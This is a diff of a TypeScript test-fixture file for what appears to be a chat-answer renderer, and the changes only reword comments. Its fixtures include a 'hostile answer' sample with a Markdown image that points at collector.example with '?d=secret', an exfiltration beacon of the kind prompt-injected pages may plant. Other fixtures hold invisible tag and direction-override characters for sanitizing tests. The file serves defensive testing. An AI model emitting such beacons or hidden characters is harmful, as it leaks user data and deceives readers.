@@ -1,4 +1,4 @@
-/** What the scripts answer. Fixed, so that a test can only see it by parsing the stream. */
+/** Answers of the scripts. Fixed, so that a test can only get them by parsing the stream. */
 
 export const ANSWER = `## Summary
 
@@ -20,16 +20,16 @@ export const FIRST_HALF =
   'The simulator was asked for more than its cap allows, so it stops in the middle of a';
 export const SECOND_HALF = ' sentence, and finishes it when it is asked to go on.';
 
-/** Characters of one to four bytes, joined emoji, and a pair of halves. */
+/** Characters of one to four bytes, joined emoji, and a surrogate pair. */
 export const MANY_BYTES = 'Grüße – 你好, नमस्ते, שלום 👩‍👩‍👧 and 𝒻𝒾𝓃 🎉.';
 
-/** Invisible characters among letters: tag characters and direction overrides to drop, joiners to keep. */
+/** Invisible characters between letters: tag characters and direction overrides to drop, joiners to keep. */
 export const INVISIBLE = {
   sent: 'Visible\u{E0048}\u{E0049} text\u202E with\u202C tricks\u2060. می\u200Cخواهم 👩\u200D🚀 क्\u200Dष',
   seen: 'Visible text with tricks. می\u200Cخواهم 👩\u200D🚀 क्\u200Dष',
 } as const;
 
-/** What a hostile model, or a page it has read, may try in Markdown. Nothing of it may load or run. */
+/** What a hostile model, or a page it has read, may try in Markdown. None of it may load or run. */
 export const HOSTILE_ANSWER = `Here is the result.
 
 ![pixel](https://collector.example/p.png?d=secret)
@@ -56,7 +56,7 @@ export const IN_LANGUAGE: Readonly<Record<string, string>> = {
   th: 'นี่คือคำตอบที่คุณขอ มีสองประโยค\n\nและนี่คือย่อหน้าที่สองที่มีคำเพิ่มเติมอีกเล็กน้อย',
 };
 
-/** A conclusion with the four sections that show how it was reached. */
+/** A conclusion, with four sections on how it was reached. */
 export const REASONED_ANSWER = `Take the train: it is 18 euros cheaper and leaves room for one meeting more.
 
 ## Assumptions
